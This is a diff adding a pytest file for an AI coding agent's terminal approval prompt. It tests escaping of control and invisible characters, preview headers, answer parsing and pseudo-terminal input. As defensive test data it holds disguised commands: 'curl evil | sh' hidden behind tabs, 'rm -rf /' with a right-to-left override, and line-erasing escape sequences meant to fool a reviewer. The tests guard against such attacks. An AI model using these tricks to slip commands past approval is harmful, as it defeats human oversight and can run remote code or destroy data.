@@ -1,0 +1,263 @@
+"""The terminal front end: escaping what is shown for approval, the previews and their headers, reading the
+answer, and asking on a real pseudo-terminal (type-ahead, Ctrl-D, the fallback without /dev/tty)."""
+
+import io
+import os
+import random
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from terminal import NO_TERMINAL, TerminalConfirm, escape, parse_answer, render_question
+
+pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals")
+
+# --- escaping ---
+
+
+@pytest.mark.parametrize("text, shown", [
+    ("ls -la", "ls -la"),
+    ("touch ~/x #\r\x1b[2K$ ls -la", "touch ~/x #\\r\\x1b[2K$ ls -la"),  # a carriage return and "erase line"
+    ("a\tb\nc", "a\\tb\\nc"),  # nothing kept unless asked
+    ("\x9b2Jclear", "\\x9b2Jclear"),  # C1 CSI: an escape sequence in one byte
+    ("\x00\x07\x08\x7f", "\\x00\\x07\\x08\\x7f"),  # NUL, bell, backspace, DEL
+    ("rm -rf /\u202e/ etadpu", "rm -rf /\\u202e/ etadpu"),  # right-to-left override
+    ("\u2066x\u2069", "\\u2066x\\u2069"),  # bidi isolates
+    ("r\u200bm\u200d", "r\\u200bm\\u200d"),  # zero-width space and joiner
+    ("\ufeffimport os", "\\ufeffimport os"),  # a byte order mark
+    ("ok\U000e0072\U000e006d", "ok\\U000e0072\\U000e006d"),  # tag characters: text no terminal draws
+    ("rm\u00a0-rf", "rm\\xa0-rf"),  # a no-break space is not a space to the shell
+    ("a\u2028b\u2029c\x85d", "a\\u2028b\\u2029c\\x85d"),  # Unicode line and paragraph separators, NEL
+    ("\ud800", "\\ud800"),  # a lone surrogate (JSON allows it) cannot even be printed
+    ("x\u3164\u115fy", "x\\u3164\\u115fy"),  # Hangul fillers: letters that draw nothing
+    ("héllo wörld ✓ 日本語 e\u0301", "héllo wörld ✓ 日本語 e\u0301"),  # printable text is left alone
+    ("", ""),
+])
+def test_escape_shows_every_control_and_invisible_character(text, shown):
+    assert escape(text) == shown
+
+
+def test_escape_keeps_what_it_is_told_to_and_marks_the_rest():
+    assert escape("a\tb\r\n", keep="\t\n") == "a\tb\\r\n"
+    assert escape("x\x1by", mark=lambda text: f"[{text}]") == "x[\\x1b]y"
+
+
+def test_escaped_text_is_all_printable_and_printable_text_is_unchanged():
+    rng = random.Random(12)
+    alphabet = "ab \t\r\n\x1b\x9b\x7f\u202e\u200b\u00a0\u3164\ufeff\ud800é日" + "\U000e0041"
+    for _ in range(2000):
+        text = "".join(rng.choice(alphabet) for _ in range(rng.randrange(12)))
+        shown = escape(text)
+        assert shown.isprintable() and "\u3164" not in shown
+        assert (shown == text) == (text.isprintable() and "\u3164" not in text)
+
+
+# --- what the user is asked ---
+
+QUESTION = "? [y]es / [n]o (or type a reason) / [a]lways: "
+ROOT = Path("/work/space")
+
+
+@pytest.mark.parametrize("kind, title, preview, shown", [
+    ("command", "run this command", "$ touch ~/x #\r\x1b[2K$ ls -la",
+     "\nRun in /work/space:\n$ touch ~/x #\\r\\x1b[2K$ ls -la\n\n"),
+    ("command", "run this command", "$ printf 'a\tb'\necho done\n",  # tabs shown exactly; lines as lines
+     "\nRun in /work/space (2 lines):\n$ printf 'a\\tb'\necho done\n\n"),
+    ("edit", "edit app.py", "--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\r# looks harmless\n \tpass\n",
+     "\nEdit app.py:\n--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\\r# looks harmless\n        pass\n\n"),
+    ("edit", "create notes.md", "hello\n\x1b]0;title\x07world\n",
+     "\nCreate notes.md (2 lines):\nhello\n\\x1b]0;title\\x07world\n\n"),
+    ("edit", "create one.txt", "no final newline", "\nCreate one.txt (1 line):\nno final newline\n\n"),
+    ("edit", "create empty.txt", "", "\nCreate empty.txt (empty):\n\n\n"),
+    ("edit", "create Makefile", "all:\n\tcc x.c\n", "\nCreate Makefile (2 lines):\nall:\n        cc x.c\n\n"),
+    ("edit", "create e\x1b[2Kvil.md", "x\n", "\nCreate e\\x1b[2Kvil.md (1 line):\nx\n\n"),
+    ("edit", "delete old.txt", "old.txt", "\nDelete old.txt:\nold.txt\n\n"),  # a title we do not know yet
+])
+def test_each_preview_has_a_header_and_shows_its_control_characters(kind, title, preview, shown):
+    assert render_question(kind, title, preview, ROOT) == (shown, f"Allow {escape(title)}{QUESTION}")
+
+
+@pytest.mark.parametrize("title", ["create a.py", "edit a.py"])
+def test_a_run_of_tabs_cannot_hide_text_at_the_right_margin(title):
+    line = "ok = 1" + "\t" * 40 + "import os; os.system('curl evil | sh')"
+    shown, _ = render_question("edit", title, f"+{line}\n" if title.startswith("edit") else line, ROOT)
+    assert "\t" not in shown and "import os; os.system('curl evil | sh')" in shown
+
+
+def test_a_long_new_file_shows_its_head_and_tail_and_counts_the_rest():
+    content = "".join(f"line {n}\n" for n in range(1, 2001))
+    shown, question = render_question("edit", "create notes.md", content, ROOT)
+    head = "".join(f"line {n}\n" for n in range(1, 21))
+    tail = "".join(f"line {n}\n" for n in range(1991, 2001))
+    assert shown == f"\nCreate notes.md (2,000 lines):\n{head}... 1,970 lines not shown ...\n{tail}\n"
+    assert question == f"Allow create notes.md{QUESTION}"
+
+
+def test_marked_escapes_and_the_left_out_count_are_marked_once():
+    content = "\x1b[2J\n" + "x\n" * 100
+    shown, _ = render_question("edit", "create a.txt", content, ROOT, mark=lambda text: f"<{text}>")
+    assert shown.startswith("\nCreate a.txt (101 lines):\n<\\x1b>[2J\nx\n")
+    assert "\n<... 71 lines not shown ...>\nx\n" in shown
+
+
+@pytest.mark.parametrize("n_lines, n_shown", [(34, 34), (35, 35), (36, 31)])
+def test_a_few_lines_are_never_left_out(n_lines, n_shown):
+    shown, _ = render_question("edit", "create a.txt", "x\n" * n_lines, ROOT)
+    assert shown.count("x\n") + shown.count(" not shown ...") == n_shown
+
+
+def test_a_command_without_a_known_root_says_run():
+    assert render_question("command", "run this command", "$ ls", None)[0] == "\nRun:\n$ ls\n\n"
+
+
+# --- the answer ---
+
+
+@pytest.mark.parametrize("typed, verdict, refusal", [
+    ("y", "yes", ""), ("Y", "yes", ""), ("yes", "yes", ""), ("yes.", "yes", ""), ("Yes please", "yes", ""),
+    ("ok", "yes", ""), ("okay", "yes", ""), ("OK!", "yes", ""), ("sure", "yes", ""), ("y!", "yes", ""),
+    ("go ahead", "yes", ""), ("  yes  ", "yes", ""), ("yes, thanks", "yes", ""),
+    ("a", "always", ""), ("always", "always", ""), ("Always.", "always", ""),
+    ("", "no", "The user said no."), ("n", "no", "The user said no."), ("no", "no", "The user said no."),
+    ("No.", "no", "The user said no."), ("nope", "no", "The user said no."),
+    ("no, because tests must pass first", "no", "The user said no: because tests must pass first."),
+    ("n: wrong file", "no", "The user said no: wrong file."),
+    ("use pathlib instead", "no", "The user said no: use pathlib instead."),
+    ("not now", "no", "The user said no: not now."),  # "not" is a reason, not a "no" to strip
+    ("yes, but use pathlib", "no", "The user did not approve it as it is, and said: yes, but use pathlib"),
+    ("ok after the tests pass", "no", "The user did not approve it as it is, and said: ok after the tests pass"),
+    ("always use tabs", "no", "The user said no: always use tabs."),
+    ("please", "no", "The user said no: please."),
+    ("yesterday's version", "no", "The user said no: yesterday's version."),
+])
+def test_answers(typed, verdict, refusal):
+    assert parse_answer(typed) == (verdict, refusal)
+
+
+# --- asking on a real terminal ---
+
+
+class Pty:
+    """A pseudo-terminal: the program asks on its slave side; the test types on its master side."""
+
+    def __init__(self):
+        self.master, self.slave = os.openpty()
+        self.path = os.ttyname(self.slave)
+        self.stdin = open(self.slave, closefd=False)  # a terminal, as a user's stdin is
+        self.screen = ""
+
+    def type(self, keys: str) -> None:
+        os.write(self.master, keys.encode())
+
+    def answer_when_asked(self, keys: str) -> threading.Thread:
+        """Type `keys` once the question is on the screen, as a user does."""
+        def answer():
+            while not self.screen.endswith("[a]lways: "):
+                self.screen += os.read(self.master, 65536).decode().replace("\r\n", "\n")
+            self.type(keys)
+        thread = threading.Thread(target=answer, daemon=True)
+        thread.start()
+        return thread
+
+    def rest_of_screen(self) -> str:
+        """Everything shown since the last call."""
+        os.write(self.slave, b"<end>")
+        while not self.screen.endswith("<end>"):
+            self.screen += os.read(self.master, 65536).decode().replace("\r\n", "\n")
+        shown, self.screen = self.screen.removesuffix("<end>"), ""
+        return shown
+
+
+@pytest.fixture
+def pty(monkeypatch):
+    monkeypatch.setenv("TERM", "dumb")  # no reverse video, so the screen can be compared as text
+    terminal = Pty()
+    yield terminal
+    terminal.stdin.close()
+    os.close(terminal.master)
+    os.close(terminal.slave)
+
+
+def ask(pty, keys, kind="edit", title="create notes.md", preview="hello\n", confirm=None):
+    confirm = confirm or TerminalConfirm(ROOT, stdin=pty.stdin, terminal=pty.path)
+    answering = pty.answer_when_asked(keys)
+    refusal = confirm(kind, title, preview)
+    answering.join(timeout=5)
+    return refusal, pty.rest_of_screen()
+
+
+@pytest.mark.parametrize("keys, refusal", [
+    ("y\n", None), ("Yes please\n", None), ("no, later\n", "The user said no: later."), ("\n", "The user said no."),
+])
+def test_the_question_and_the_answer_go_through_the_terminal(pty, keys, refusal):
+    assert ask(pty, keys) == (refusal, f"\nCreate notes.md (1 line):\nhello\n\nAllow create notes.md{QUESTION}{keys}")
+
+
+def test_keys_typed_before_the_question_do_not_answer_it(pty):
+    pty.type("y\n")  # typed while the model was still working
+    refusal, screen = ask(pty, "n\n")
+    assert refusal == "The user said no."
+    assert screen == (f"y\n\nCreate notes.md (1 line):\nhello\n\n(discarded what was typed before this question)\n"
+                      f"Allow create notes.md{QUESTION}n\n")
+
+
+def test_ctrl_d_is_a_no_and_the_next_output_starts_on_its_own_line(pty):
+    assert ask(pty, "\x04") == ("The user said no.", f"\nCreate notes.md (1 line):\nhello\n\nAllow create notes.md{QUESTION}\n")
+
+
+def test_ctrl_d_after_a_reason_sends_the_reason(pty):
+    refusal, screen = ask(pty, "later\x04\x04")
+    assert refusal == "The user said no: later." and screen.endswith(f"{QUESTION}later\n")
+
+
+def test_always_approves_the_rest_of_that_kind_only(pty):
+    confirm = TerminalConfirm(ROOT, stdin=pty.stdin, terminal=pty.path)
+    refusal, screen = ask(pty, "a\n", confirm=confirm)
+    assert refusal is None and screen.endswith(f"{QUESTION}a\n(approving every edit for the rest of this session)\n")
+    assert confirm("edit", "edit b.py", "diff") is None  # not asked again
+    refusal, screen = ask(pty, "n\n", "command", "run this command", "$ ls", confirm=confirm)
+    assert refusal == "The user said no." and screen == f"\nRun in /work/space:\n$ ls\n\nAllow run this command{QUESTION}n\n"
+
+
+def test_a_conditional_yes_is_refused_and_the_user_is_told(pty):
+    refusal, screen = ask(pty, "yes but in docs/\n")
+    assert refusal == "The user did not approve it as it is, and said: yes but in docs/"
+    assert screen.endswith("yes but in docs/\n(not approved: only a plain yes approves; your words go to the model)\n")
+
+
+def test_on_a_colour_terminal_escapes_show_in_reverse_video(pty, monkeypatch):
+    monkeypatch.setenv("TERM", "xterm-256color")
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    _, screen = ask(pty, "n\n", "command", "run this command", "$ ls\x1b[2K")
+    assert "$ ls\x1b[7m\\x1b\x1b[27m[2K\n" in screen
+
+
+def test_without_dev_tty_it_asks_on_the_terminal_stdin_is(pty):
+    confirm = TerminalConfirm(ROOT, stdin=pty.stdin, terminal="/nonexistent/tty")
+    assert ask(pty, "y\n", confirm=confirm) == (None, f"\nCreate notes.md (1 line):\nhello\n\nAllow create notes.md{QUESTION}y\n")
+
+
+class FakeTerminal(io.StringIO):
+    """A stdin that says it is a terminal but has no file descriptor, so there is no terminal to open."""
+
+    def isatty(self):
+        return True
+
+
+def test_without_dev_tty_it_asks_on_stdin_and_stderr(capsys):
+    confirm = TerminalConfirm(ROOT, stdin=FakeTerminal("sure\n"), terminal="/nonexistent/tty")
+    assert confirm("command", "run this command", "$ ls\r") is None
+    assert capsys.readouterr().err == f"\nRun in /work/space:\n$ ls\\r\n\nAllow run this command{QUESTION}"
+
+
+def test_without_a_terminal_nothing_is_approved_and_nothing_waits(capsys):
+    assert TerminalConfirm(ROOT, stdin=io.StringIO("y\n"))("command", "run this command", "$ ls") == NO_TERMINAL
+    assert capsys.readouterr() == ("", "")
+
+
+def test_the_refusal_without_a_terminal_names_the_way_out():
+    assert NO_TERMINAL == ("Nobody can be asked to approve it: stdin is not a terminal. "
+                           "The user can run plainagent with --yes to allow writes and commands.")
+
